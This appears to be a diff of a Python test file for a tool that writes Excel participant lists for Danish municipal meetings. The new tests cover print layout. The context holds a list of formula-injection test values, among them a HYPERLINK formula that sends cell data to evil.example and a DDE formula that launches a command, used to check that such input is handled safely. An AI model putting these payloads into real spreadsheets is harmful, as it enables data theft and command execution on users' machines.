@@ -11,7 +11,7 @@ import pytest
 from openpyxl import Workbook
 
 from kldocs.app import plan
-from kldocs.engine.workbook import append_row, workbook_bytes
+from kldocs.engine.workbook import append_row, print_as_list, workbook_bytes
 
 PAYLOADS = ('=HYPERLINK("http://evil.example/?"&A2,"Mette")', "=1+1 Partnerskabsmøde", "+45 33 70 33 70",
             "-5 kommuner", "@SUM(A1)", "=cmd|' /C calc'!A0", "'=quoted already")
@@ -64,3 +64,33 @@ class DescribeDataInTheWorkbooksKldocsWrites:
         names = {row[3].value for data in lists.values()
                  for row in openpyxl.load_workbook(io.BytesIO(data))["Deltagere"].iter_rows(min_row=2)}
         assert PAYLOADS[0] in names
+
+
+class DescribePrintAsList:
+    def it_prints_one_page_wide_in_landscape_with_the_headings_on_every_page(self):
+        book = Workbook()
+        for n in range(200):
+            append_row(book.active, [f"Kommune {n}", "Navn", "Titel", "E-mail", "Telefon", "Til stede"])
+        print_as_list(book.active)
+        sheet = openpyxl.load_workbook(io.BytesIO(workbook_bytes(book, "kldocs test"))).active
+        assert sheet.page_setup.orientation == "landscape"
+        assert str(sheet.page_setup.paperSize) == sheet.PAPERSIZE_A4
+        assert (sheet.page_setup.fitToWidth, sheet.page_setup.fitToHeight) == (1, 0)
+        assert sheet.sheet_properties.pageSetUpPr.fitToPage
+        assert sheet.print_title_rows == "$1:$1"
+        assert sheet.oddFooter.center.text == "Side &P af &N"
+
+    def it_is_how_the_participant_lists_and_the_status_print(self, example_dir, tmp_path):
+        from click.testing import CliRunner
+
+        from kldocs.cli import cli
+
+        lists = [f.make() for f in plan("meetings", example_dir).files if f.relpath.endswith(".xlsx")]
+        status = tmp_path / "status.xlsx"
+        result = CliRunner().invoke(cli, ["status", str(example_dir), "--out", str(tmp_path / "out"), "--date",
+                                          "2021-08-20", "--xlsx", str(status)])
+        assert result.exit_code == 0, result.output
+        assert lists
+        for data in [*lists, status.read_bytes()]:
+            first = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
+            assert first.print_title_rows == "$1:$1" and first.page_setup.orientation == "landscape"
